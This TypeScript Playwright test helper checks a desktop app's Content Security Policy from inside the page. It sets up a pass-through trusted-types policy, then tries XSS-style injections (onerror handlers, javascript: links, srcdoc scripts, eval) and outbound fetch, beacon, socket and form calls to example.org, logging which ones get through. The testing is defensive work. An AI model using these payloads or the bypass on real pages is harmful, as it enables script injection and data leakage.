/**
 * What a stranger's text would try if it ever became markup or script in the desk's page. Each attack leaves a mark in
 * `window.marks` if it comes through. They run after trusted types have been got around, so that the content policy stands alone.
 */

import type { Page } from '@playwright/test';

export interface AttackOutcome {
  readonly attack: string;
  /** What of it came through. */
  readonly marks: readonly string[];
  /** The directives of the content policy that were told to have been violated. */
  readonly violated: readonly string[];
}

interface AttackGround {
  readonly marks: string[];
  html(text: string): string;
  script(text: string): string;
  add(markup: string): HTMLElement;
}
type Attacks = Readonly<Record<string, (ground: AttackGround) => unknown>>;

/** Waits so long after each attack for what comes of it. */
const settle = 250;

export function attack(window: Page): Promise<AttackOutcome[]> {
  return window.evaluate(runAttacks, settle);
}

/** Runs in the page, so it may use nothing from outside of itself. */
async function runAttacks(patience: number): Promise<AttackOutcome[]> {
  const marks: string[] = [];
  const { trustedTypes } = globalThis as unknown as {
    trustedTypes: {
      createPolicy(
        name: string,
        rules: object,
      ): Record<'createHTML' | 'createScript' | 'createScriptURL', (text: string) => string>;
    };
  };
  const same = (text: string) => text;
  const policy = trustedTypes.createPolicy('sobat-worker', {
    createHTML: same,
    createScript: same,
    createScriptURL: same,
  });
  const ground: AttackGround = {
    marks,
    html: (text) => policy.createHTML(text),
    script: (text) => policy.createScript(text),
    add: (markup) => {
      const box = document.createElement('div');
      box.innerHTML = policy.createHTML(markup);
      document.body.append(box);
      return box;
    },
  };
  Object.assign(globalThis, { marks });
  const mark = (text: string) => `parent.marks.push('${text}')`;
  const attacks: Attacks = {
    'script in the page': ({ script }) => {
      const element = document.createElement('script');
      element.text = script(mark('ran'));
      document.body.append(element);
    },
    'script from elsewhere': () => {
      const element = document.createElement('script');
      element.src = policy.createScriptURL('https://example.org/x.js');
      document.body.append(element);
    },
    'script in a data address': () => import(`data:text/javascript,${mark('ran')}`),
    'picture with a handler': ({ add }) => add(`<img src="nothing.png" onerror="${mark('ran')}">`),
    'link with a script': ({ add }) =>
      add(`<a href="javascript:${mark('ran')}">x</a>`)
        .querySelector('a')
        ?.click(),
    /* eslint-disable no-eval, no-new-func, @typescript-eslint/no-implied-eval -- that these do not work is what is tested */
    eval: ({ script }) => (0, eval)(script(mark('ran'))) as unknown,
    'new Function': ({ script }) => (new Function(script(mark('ran'))) as () => unknown)(),
    'timer with text': ({ script }) => setTimeout(script(mark('ran'))),
    /* eslint-enable no-eval, no-new-func, @typescript-eslint/no-implied-eval */
    'frame with a page of its own': ({ add }) =>
      add(`<iframe srcdoc="<script>${mark('ran')}</script>"></iframe>`),
    'frame from elsewhere': ({ add }) => add('<iframe src="https://example.org/"></iframe>'),
    'frame of our own': ({ add }) => add('<iframe src="app://desk/exchange/parse.html"></iframe>'),
    'new base of all addresses': ({ add, marks: list }) => {
      add('<base href="https://example.org/">');
      if (document.baseURI !== location.href) list.push('base');
    },
    'form sent away': ({ add }) =>
      (
        add('<form action="https://example.org/" method="post"><input name="x"></form>')
          .firstChild as HTMLFormElement
      ).submit(),
    'picture from elsewhere': ({ add }) =>
      add(`<img src="https://example.org/x.png" onload="${mark('ran')}">`),
    'request sent away': ({ marks: list }) => fetch('https://example.org/').then(() => list.push('answered')),
    'beacon sent away': () => navigator.sendBeacon('https://example.org/', 'x'),
    'socket opened': ({ marks: list }) => {
      new WebSocket('wss://example.org/').onopen = () => list.push('opened');
    },
    'events listened to': () => new EventSource('https://example.org/'),
    'worker out of text': ({ marks: list }) => {
      const text = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
      new Worker(policy.createScriptURL(text)).onmessage = () => list.push('ran');
    },
    'style in an attribute': ({ add, marks: list }) => {
      const box = add('<p style="position: fixed">x</p>').firstElementChild;
      if (box !== null && getComputedStyle(box).position === 'fixed') list.push('styled');
    },
    'style sheet in the page': ({ add, marks: list }) => {
      const box = add('<style>#planted { position: fixed }</style><p id="planted">x</p>').lastElementChild;
      if (box !== null && getComputedStyle(box).position === 'fixed') list.push('styled');
    },
    'style sheet from elsewhere': ({ add }) =>
      add('<link rel="stylesheet" href="https://example.org/x.css">'),
    'font from elsewhere': () => new FontFace('x', 'url(https://example.org/x.woff2)').load(),
    'object embedded': ({ add }) =>
      add('<object data="app://desk/app/index.html"></object><embed src="app://desk/app/index.html">'),
    'film from elsewhere': ({ add }) => add('<video src="https://example.org/x.mp4" autoplay></video>'),
  };
  const outcomes: AttackOutcome[] = [];
  for (const [name, run] of Object.entries(attacks)) {
    const violated: string[] = [];
    const note = (event: SecurityPolicyViolationEvent) => violated.push(event.effectiveDirective);
    document.addEventListener('securitypolicyviolation', note);
    const before = marks.length;
    try {
      await Promise.race([run(ground), new Promise((resolve) => setTimeout(resolve, patience))]);
    } catch {
      // Most are refused by an exception as well.
    }
    await new Promise((resolve) => setTimeout(resolve, patience));
    document.removeEventListener('securitypolicyviolation', note);
    outcomes.push({ attack: name, marks: marks.slice(before), violated });
  }
  return outcomes;
}
